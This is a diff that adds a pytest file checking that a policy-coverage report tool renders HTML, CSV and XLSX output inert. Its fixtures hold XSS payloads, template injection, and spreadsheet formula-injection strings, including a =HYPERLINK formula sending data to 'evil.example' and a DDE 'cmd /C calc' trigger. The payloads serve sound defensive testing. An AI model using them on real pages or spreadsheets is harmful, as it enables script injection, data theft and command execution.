@@ -1,0 +1,400 @@
+"""The HTML report: what a reviewer sees, highlighting of matched words, and inertness of hostile document text."""
+
+import csv
+import re
+
+import pytest
+from bs4 import BeautifulSoup
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+from pipeline.classify.text import lemma, normalise_for_matching
+from pipeline.cli import app
+from pipeline.report import FORMULA_TRIGGERS, write_reports
+from pipeline.report_html import (
+    asset_text,
+    csp_source_hash,
+    highlight_segments,
+    normalised_words,
+    render_report,
+    template_environment,
+)
+from pipeline.types import Coverage, Evidence, Signal, Skipped, Status
+from tests.conftest import SAMPLE_CORPUS
+
+RUN_RECORD = {
+    "tool": {"name": "promise-map", "version": "9.9.9"},
+    "created": "2026-01-02T03:04:05+00:00",
+    "corpus": "corpora/test",
+    "reference": {"sha256": "ab" * 32, "frameworks": [
+        {"id": "calls_to_action", "name": "The Promise: 55 calls to action", "version": "2020-south-ayrshire-55",
+         "source": "seed", "items": 55},
+        {"id": "inspection_principles", "name": "Inspection principles", "version": "2020-promise-p119",
+         "source": "p.119", "items": 13}]},
+    "classifier": {"name": "LexicalClassifier", "signals": ["quote", "tfidf"]},
+    "settings": {"thresholds": {"quote": {"covered": 0.9, "partial": 0.9}, "tfidf": {"covered": 0.4, "partial": 0.25}},
+                 "corroboration_passages": 2, "max_evidence": 3, "password": None},
+    "inputs": [{"file": "plan.txt", "sha256": "cd" * 32, "pages": 3, "extractor": "text/1"}],
+    "counts": {"documents": 2},
+    "timings_seconds": {"extract": 0.1},
+}
+
+HOSTILE_TEXTS = [
+    "<script>window.__pwned = 1</script>",
+    "<img src=x onerror=\"window.__pwned=2\">",
+    "<a href=\"javascript:window.__pwned=3\">read more</a>",
+    "<svg onload=alert(4)></svg>",
+    "<iframe src=\"javascript:alert(5)\"></iframe>",
+    "\"><body onload=alert(6)>",
+    "</textarea></style></script><script>alert(7)</script>",
+    "{{ 7*7 }} {% raw %}",
+]
+
+
+def evidence(text, *, page=4, signal=Signal.TFIDF, matched="siblings, brothers sisters", heading="Plan › Siblings"):
+    return Evidence(passage_id="x#0001", page=page, heading=heading, text=text, score=0.52, signal=signal,
+                    matched=matched)
+
+
+def fixture_coverages(reference_set, *, doc_a="plan.txt", doc_b="roads.txt", text="Brothers and sisters stay "
+                      "together.", heading="Plan › Siblings", matched="siblings, brothers sisters"):
+    """Two documents over every item: plan.txt covers CARE-3 and partially CARE-4; roads.txt covers nothing."""
+    coverages = []
+    for document in (doc_a, doc_b):
+        for item in reference_set.items:
+            if document == doc_a and item.id == "CARE-3":
+                coverages.append(Coverage(doc=document, item=item, status=Status.COVERED, score=0.52,
+                                          evidence=(evidence(text, heading=heading, matched=matched),)))
+            elif document == doc_a and item.id == "CARE-4":
+                coverages.append(Coverage(doc=document, item=item, status=Status.PARTIAL, score=0.3,
+                                          evidence=(evidence("Family time matters.", page=7, matched="family time"),)))
+            else:
+                coverages.append(Coverage(doc=document, item=item, status=Status.MISSING, score=0.0))
+    return coverages
+
+
+def parse(html):
+    return BeautifulSoup(html, "html5lib")
+
+
+@pytest.fixture(scope="module")
+def fixture_html(reference_set):
+    skipped = [Skipped(file="broken.pdf", stage="extract", reason="the PDF is damaged: no page tree")]
+    return render_report(coverages=fixture_coverages(reference_set), skipped=skipped, run_record=RUN_RECORD)
+
+
+# --- matched-word highlighting -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", [
+    "Siblings stay together.",
+    "South Ayrshire's children; the local authority and The Council must re-orientate services.",
+    "Don’t ‘quote’ me — it's 3pm, e-mail: a-b-c -x- x- -x",
+    "Ünïcödé façade İstanbul ΑΣ naïve",
+    "  \n\t  ",
+    "",
+    "decision-making\nabout their care (see p. 12)",
+])
+def test_normalised_words_rebuild_the_classifiers_normal_form(text):
+    words = normalised_words(text)
+    assert " ".join(word.text for word in words) == normalise_for_matching(text)
+    for word in words:
+        assert 0 <= word.start < word.end <= len(text)
+
+
+def test_normalised_words_agree_with_the_classifier_on_every_sample_paragraph():
+    paragraphs = [p for path in sorted(SAMPLE_CORPUS.iterdir()) for p in path.read_text(encoding="utf-8").split("\n\n")]
+    assert len(paragraphs) > 100
+    for paragraph in paragraphs:
+        assert " ".join(w.text for w in normalised_words(paragraph)) == normalise_for_matching(paragraph), paragraph
+
+
+def marked(segments):
+    return [piece for piece, is_match in segments if is_match]
+
+
+def test_tfidf_terms_are_highlighted_case_insensitively_and_segments_rebuild_the_text():
+    text = "Brothers and Sisters should STAY together; siblings matter."
+    segments = highlight_segments(text, "brothers sisters, siblings, stay", Signal.TFIDF)
+    assert "".join(piece for piece, _ in segments) == text
+    assert marked(segments) == ["Brothers", "Sisters", "STAY", "siblings"]
+
+
+def test_function_words_inside_matched_bigrams_are_not_highlighted():
+    segments = highlight_segments("They feel the relationships on the ward.", "on the, feel they, relationship ward",
+                                  Signal.MODEL)
+    assert marked(segments)[:1] == ["feel"] and "the" not in marked(segments) and "They" not in marked(segments)
+    assert "ward" in marked(segments)
+
+
+def test_terms_recorded_as_lemmas_highlight_the_inflected_word():
+    if lemma("children") != "child":
+        pytest.skip("the lemma table is not installed (spacy-lookups-data)")
+    segments = highlight_segments("Children's hearings were redesigned.", "child hearing", Signal.MODEL)
+    assert marked(segments) == ["Children's", "hearings"]
+
+
+def test_quotation_is_highlighted_through_the_place_name_folding():
+    text = "In short: South Ayrshire must ensure that decision making is based on what the child needs. Next."
+    span = "scotland must ensure that decision making is based on what the child needs"
+    assert marked(highlight_segments(text, span, Signal.QUOTE)) == [
+        "South Ayrshire must ensure that decision making is based on what the child needs"]
+
+
+def test_quotation_that_started_in_the_lead_in_highlights_only_the_part_in_the_passage():
+    text = "stay together with their brothers and sisters, and that is monitored."
+    span = "scotland already has a presumption that children will stay together with their brothers and sisters"
+    assert marked(highlight_segments(text, span, Signal.QUOTE)) == ["stay together with their brothers and sisters"]
+
+
+@pytest.mark.parametrize("matched", ["", "   ", ",,", "zzz, qqq"])
+def test_nothing_to_highlight_leaves_the_text_whole(matched):
+    text = "Siblings stay together."
+    assert highlight_segments(text, matched, Signal.TFIDF) == ((text, False),)
+    assert highlight_segments(text, matched, Signal.QUOTE) == ((text, False),)
+
+
+def test_highlighting_an_empty_text_gives_no_segments():
+    assert highlight_segments("", "siblings", Signal.TFIDF) == ()
+
+
+# --- what the report shows -----------------------------------------------------------------------------------------
+
+def test_heatmap_has_a_cell_per_document_and_item_grouped_by_foundation(fixture_html, reference_set):
+    page = parse(fixture_html)
+    heatmap = page.select_one("#heatmap table.heatmap")
+    body_rows = heatmap.select("tbody tr")
+    assert [row.th.get_text(strip=True) for row in body_rows] == ["plan.txt", "roads.txt"]
+    assert all(len(row.select("td.cell")) == len(reference_set.items) for row in body_rows)
+    header_ids = [th.get_text(strip=True) for th in heatmap.select("thead th.item-id")]
+    assert sorted(header_ids) == sorted(item.id for item in reference_set.items)
+    groups = [th.get_text(strip=True) for th in heatmap.select("thead tr")[1].select("th")]
+    assert groups == ["Voice", "Family", "Care", "People", "Scaffolding", "Inspection and Regulation"]
+    plan_cells = {cell.a["href"]: cell["class"] for cell in body_rows[0].select("td.cell")}
+    assert "s-covered" in plan_cells["#d1-CARE-3"] and "s-partial" in plan_cells["#d1-CARE-4"]
+    assert "s-missing" in plan_cells["#d1-CARE-5"]
+
+
+def test_gap_table_rows_carry_the_filter_and_sort_keys(fixture_html, reference_set):
+    page = parse(fixture_html)
+    section = page.select_one("section.document#doc-1")
+    assert section.h3.get_text() == "plan.txt"
+    rows = section.select("table.gap-table tbody tr")
+    assert len(rows) == len(reference_set.items)
+    row = section.select_one("tr#d1-CARE-3")
+    assert (row["data-framework"], row["data-group"], row["data-status"]) == ("calls_to_action", "Care", "covered")
+    assert row["data-sort-score"] == "0.520" and row["data-sort-status"] == "2" and row["data-sort-page"] == "4"
+    filters = {select["data-filter"]: [o["value"] for o in select.select("option")]
+               for select in section.select("select[data-filter]")}
+    assert filters["status"] == ["", "covered", "partial", "missing"]
+    assert filters["framework"] == ["", "calls_to_action", "inspection_principles"]
+    assert "Inspection and Regulation" in filters["group"]
+    sortable = [th["data-sort-key"] for th in section.select("thead th[data-sort-key]")]
+    assert sortable == ["order", "status", "score", "page"]
+
+
+def test_evidence_shows_page_heading_signal_score_and_highlighted_words(fixture_html):
+    row = parse(fixture_html).select_one("tr#d1-CARE-3")
+    meta = row.select_one(".ev-meta").get_text(" ", strip=True)
+    assert "page 4" in meta and "Plan › Siblings" in meta and "tfidf" in meta and "0.520" in meta
+    assert "siblings, brothers sisters" in meta
+    assert [mark.get_text() for mark in row.select("blockquote.passage mark")] == ["Brothers", "sisters"]
+    assert row.select_one("blockquote.passage").get_text() == "Brothers and sisters stay together."
+    missing = parse(fixture_html).select_one("tr#d1-CARE-5")
+    assert missing.select_one("details") is None and "no passage" in missing.get_text()
+
+
+def test_item_pages_list_every_document_and_link_to_its_evidence(fixture_html, reference_set):
+    page = parse(fixture_html)
+    assert len(page.select("#items section.item-page")) == len(reference_set.items)
+    item = page.select_one("section#item-CARE-3")
+    assert reference_set.item("CARE-3").text in item.get_text()
+    statuses = [(tr.td.get_text(strip=True), tr.select_one(".status").get_text()) for tr in item.select("tbody tr")]
+    assert statuses == [("plan.txt", "covered"), ("roads.txt", "missing")]
+    assert item.select_one("a[href='#d1-CARE-3']") is not None
+    assert "covered in 1 of 2 documents" in item.get_text()
+
+
+def test_never_covered_lists_exactly_the_items_no_document_covers(fixture_html, reference_set):
+    table = parse(fixture_html).select_one("#never-covered table")
+    listed = [row.td.get_text(strip=True) for row in table.select("tbody tr")]
+    assert listed == [item.id for item in reference_set.items if item.id != "CARE-3"]
+    care_4 = next(row for row in table.select("tbody tr") if row.td.get_text(strip=True) == "CARE-4")
+    assert "partial in 1 document" in care_4.get_text(" ", strip=True)
+
+
+def test_run_metadata_date_versions_thresholds_and_failed_files(fixture_html):
+    page = parse(fixture_html)
+    text = page.get_text(" ", strip=True)
+    assert "2026-01-02T03:04:05+00:00" in text and "9.9.9" in text
+    assert "2020-south-ayrshire-55" in text and "2020-promise-p119" in text and "ab" * 32 in text
+    thresholds = [[td.get_text(strip=True) for td in row.select("td")]
+                  for row in page.select("table.thresholds tbody tr")]
+    assert [row[0] for row in thresholds] == ["quote", "tfidf"]
+    assert thresholds[1][2:] == ["0.4", "0.25"]
+    failed = page.select_one("#run").get_text(" ", strip=True)
+    assert "broken.pdf extract the PDF is damaged: no page tree" in failed
+    assert "name: LexicalClassifier; signals: quote, tfidf" in failed
+
+
+def test_report_is_self_contained_and_allows_only_its_own_script_and_style(fixture_html):
+    page = parse(fixture_html)
+    [script] = page.find_all("script")
+    [style] = page.find_all("style")
+    assert script.string == asset_text("report.js") and not script.get("src")
+    policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
+    assert "default-src 'none'" in policy
+    assert f"script-src {csp_source_hash(script.string)}" in policy
+    assert f"style-src {csp_source_hash(style.string)}" in policy
+    assert not page.find_all(["link", "img", "iframe", "object", "embed", "base", "form"])
+    external = [a["href"] for a in page.find_all("a", href=True) if not a["href"].startswith("#")]
+    assert external == []
+    assert not re.search(r"https?://", fixture_html)
+
+
+def test_script_never_builds_markup_from_text():
+    script = asset_text("report.js")
+    for forbidden in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", "</"):
+        assert forbidden not in script
+
+
+def test_autoescaping_is_on_for_every_template():
+    environment = template_environment()
+    assert environment.autoescape is True
+    rendered = environment.from_string("{{ value }}").render(value="<b onclick=x>")
+    assert rendered == "&lt;b onclick=x&gt;"
+
+
+def test_same_input_renders_the_same_page(reference_set):
+    first = render_report(coverages=fixture_coverages(reference_set), skipped=[], run_record=RUN_RECORD)
+    second = render_report(coverages=fixture_coverages(reference_set), skipped=[], run_record=RUN_RECORD)
+    assert first == second
+
+
+def test_a_run_with_no_document_still_renders_and_says_why():
+    skipped = [Skipped(file="only.pdf", stage="extract", reason="encrypted: give --password")]
+    page = parse(render_report(coverages=[], skipped=skipped, run_record={}))
+    assert "No document could be mapped" in page.get_text()
+    assert "encrypted: give --password" in page.select_one("#run").get_text()
+    assert page.select("table.heatmap") == [] and len(page.find_all("script")) == 1
+
+
+# --- hostile document text ------------------------------------------------------------------------------------------
+
+def assert_inert(html, *, expected_texts=()):
+    """No executable content: our one script, no handlers, no javascript: URLs, no active elements; text kept."""
+    page = parse(html)
+    scripts = page.find_all("script")
+    assert len(scripts) == 1 and scripts[0].string == asset_text("report.js")
+    for element in page.find_all(True):
+        for attribute, value in element.attrs.items():
+            assert not attribute.lower().startswith("on"), (element.name, attribute)
+            values = value if isinstance(value, list) else [value]
+            for entry in values:
+                squashed = re.sub(r"[\s\x00-\x1f]+", "", str(entry)).lower()
+                assert not squashed.startswith(("javascript:", "data:", "vbscript:")), (element.name, attribute, entry)
+    assert not page.find_all(["img", "iframe", "svg", "object", "embed", "base", "form"])
+    assert len(page.find_all("body")) == 1 and page.body.attrs == {}
+    text = page.get_text()
+    for expected in expected_texts:
+        assert expected in text, expected
+
+
+def test_hostile_text_everywhere_renders_as_inert_text(reference_set):
+    payload = " ".join(HOSTILE_TEXTS)
+    coverages = fixture_coverages(reference_set, doc_a=f"<b onmouseover=alert(1)>plan</b>{HOSTILE_TEXTS[0]}.txt",
+                                  text=f"{payload} Brothers and sisters stay together.", heading=HOSTILE_TEXTS[1],
+                                  matched="script, pwned, brothers sisters, onerror")
+    skipped = [Skipped(file=HOSTILE_TEXTS[2], stage="extract", reason=HOSTILE_TEXTS[3])]
+    record = {**RUN_RECORD, "corpus": HOSTILE_TEXTS[4], "created": HOSTILE_TEXTS[5]}
+    html = render_report(coverages=coverages, skipped=skipped, run_record=record)
+    assert_inert(html, expected_texts=[*HOSTILE_TEXTS, "Brothers and sisters stay together."])
+    marks = [mark.get_text() for mark in parse(html).select("tr#d1-CARE-3 mark")]
+    assert "script" in marks and "Brothers" in marks  # highlighted, yet still text
+    assert "{{ 7*7 }}" in html and "49" not in parse(html).select_one("tr#d1-CARE-3").get_text()
+
+
+HOSTILE_DOCUMENT = """# <script>window.__pwned = 'heading'</script> Brothers and sisters
+
+=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details") Scotland already has a presumption that children \
+will stay together with their brothers and sisters. That presumption must be fully implemented and closely monitored.
+
++cmd|' /C calc'!A0 All children must be supported to continue relationships that are important to them, where it \
+is safe to do so.
+
+@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror="window.__pwned='img'"> <a href="javascript:window.__pwned='link'">\
+read more</a> Any transition in a care experienced child or young person's life must be limited, relational, planned \
+and informed.
+
+-2+3 <svg onload="window.__pwned='svg'"></svg> <iframe src="javascript:window.__pwned='frame'"></iframe> Children must \
+be listened to and meaningfully and appropriately involved in decision-making about their care.
+"""
+HOSTILE_FILE_NAME = "+cmd <b onmouseover=alert(9)>hostile.txt"
+
+
+def write_hostile_corpus(folder):
+    folder.mkdir()
+    (folder / HOSTILE_FILE_NAME).write_text(HOSTILE_DOCUMENT, encoding="utf-8")
+    (folder / "=HYPERLINK(1).odt").write_bytes(b"PK\x03\x04 <script>alert(1)</script>")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    base = tmp_path_factory.mktemp("hostile")
+    corpus = write_hostile_corpus(base / "corpus")
+    out = base / "out"
+    result = CliRunner().invoke(app, ["map", str(corpus), "--out", str(out), "--quiet"])
+    assert result.exit_code == 0, result.output
+    return out
+
+
+@pytest.mark.slow
+def test_hostile_document_gives_an_inert_html_report(hostile_run):
+    html = (hostile_run / "report.html").read_text(encoding="utf-8")
+    assert_inert(html, expected_texts=[HOSTILE_FILE_NAME, "=HYPERLINK(1).odt", "<script>window.__pwned = 'heading'"])
+    covered = [tr for tr in parse(html).select("table.gap-table tbody tr") if tr["data-status"] == "covered"]
+    evidence_text = " ".join(tr.select_one("blockquote.passage").get_text() for tr in covered)
+    assert "=HYPERLINK(" in evidence_text and "<img src=x onerror=" in evidence_text
+
+
+def leading_trigger(value):
+    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
+
+
+@pytest.mark.slow
+def test_hostile_document_gives_plain_text_cells_in_every_csv(hostile_run):
+    rows = list(csv.DictReader((hostile_run / "gap_table.csv").open(encoding="utf-8")))
+    assert {row["document"] for row in rows} == {"'" + HOSTILE_FILE_NAME}
+    assert any(row["evidence"].startswith("'=HYPERLINK(") for row in rows)
+    assert any(row["evidence"].startswith(("'+cmd", "'@SUM", "'-2+3")) for row in rows)
+    for name in ("gap_table.csv", "matches.csv", "errors.csv"):
+        with (hostile_run / name).open(encoding="utf-8", newline="") as stream:
+            for row in csv.reader(stream):
+                assert not any(leading_trigger(cell) for cell in row), (name, row)
+    errors = list(csv.DictReader((hostile_run / "errors.csv").open(encoding="utf-8")))
+    assert [e["file"] for e in errors] == ["'=HYPERLINK(1).odt"]
+
+
+@pytest.mark.slow
+def test_hostile_document_gives_plain_text_cells_in_every_sheet(hostile_run):
+    workbook = load_workbook(hostile_run / "gap_table.xlsx")
+    assert workbook.sheetnames == ["overview", "gap_table", "items", "evidence", "errors"]
+    seen_hyperlink = False
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert not leading_trigger(cell.value), (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    seen_hyperlink |= cell.value.startswith("'=HYPERLINK(")
+    assert seen_hyperlink
+
+
+def test_write_reports_writes_the_report_and_figures_beside_the_tables(tmp_path, reference_set):
+    written = write_reports(tmp_path, coverages=fixture_coverages(reference_set), passages=[], matches=[],
+                            skipped=[], run_record=RUN_RECORD)
+    names = {path.name for path in written}
+    assert {"report.html", "coverage_heatmap.png", "coverage_heatmap.svg", "coverage_by_foundation.png"} <= names
+    assert sorted(names) == sorted(path.name for path in tmp_path.iterdir())
+    assert (tmp_path / "report.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
